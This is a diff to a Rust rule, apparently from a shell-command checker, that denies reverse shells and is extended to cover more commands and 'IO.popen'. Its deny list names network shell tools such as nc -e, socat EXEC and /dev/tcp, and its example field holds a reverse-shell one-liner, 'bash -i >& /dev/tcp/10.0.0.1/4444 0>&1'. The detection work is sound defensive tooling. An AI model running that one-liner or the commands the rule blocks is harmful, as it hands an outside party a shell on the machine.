@@ -1,6 +1,6 @@
 //! `no_remote_shell`: gives somebody elsewhere a shell on this machine.
 
-use super::concern::ProgramCall;
+use super::concern::{ProgramCall, Sign, Sought, WholeConcern};
 use super::no_pipe_to_shell::code_has;
 use super::options::has_short;
 use super::pipelines::{INTERPRETERS, SHELLS, feeds, near};
@@ -9,7 +9,7 @@ use crate::script::{Script, SimpleCommand, Span, Word};
 
 pub(super) const RULE: Rule = Rule {
     name: "no_remote_shell",
-    denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC, miners",
+    denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC; asks about miners and open connections",
     message: "this gives somebody elsewhere a shell on this machine",
     instead: "Use ssh, which asks who is there",
     example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -64,7 +64,11 @@ pub(super) const RULE: Rule = Rule {
                 judge: |_| Decision::Ask,
             },
         ],
-        judge,
+        WholeConcern {
+            names: &[&SHELLS, &INTERPRETERS],
+            signs: &[Sign::Redirect],
+            judge,
+        },
     ),
 };
 
@@ -92,6 +96,7 @@ fn by_code(call: &ProgramCall<'_>) -> Decision {
             "child_process",
             "cmd.exe",
             "subprocess",
+            "IO.popen",
         ],
     );
     Decision::deny_if(connects && gives)
@@ -108,13 +113,14 @@ const SPEAKING: &[&str] = &[
     "nc.openbsd",
 ];
 
-fn judge(script: &Script) -> Option<(Decision, Span)> {
+fn judge(script: &Script, sought: Sought<'_>) -> Option<(Decision, Span)> {
     let is_shell = |command: &SimpleCommand| {
         command
             .name()
             .is_some_and(|name| SHELLS.contains(&name) || INTERPRETERS.contains(&name))
     };
-    let by_redirect = script.commands.iter().find(|command| {
+    let commands = || sought.commands().map(|(_, command)| command);
+    let by_redirect = commands().find(|command| {
         let opens = command
             .redirects
             .iter()
@@ -124,7 +130,7 @@ fn judge(script: &Script) -> Option<(Decision, Span)> {
     if let Some(command) = by_redirect {
         return Some((Decision::Deny, command.span));
     }
-    let kept = script.commands.iter().find(|command| {
+    let kept = commands().find(|command| {
         let opens = command
             .redirects
             .iter()
@@ -139,8 +145,7 @@ fn judge(script: &Script) -> Option<(Decision, Span)> {
         SPEAKING.contains(&name)
             || name == "openssl" && command.arguments().iter().any(|word| word.is("s_client"))
     };
-    let mut commands = script.commands.iter().enumerate();
-    let shell = commands.find(|(at, command)| {
+    let shell = sought.commands().find(|(at, command)| {
         let is_bare = || {
             let mut words = command.arguments().iter();
             words.all(|word| word.known_beginning().starts_with('-') && !word.is("-c"))
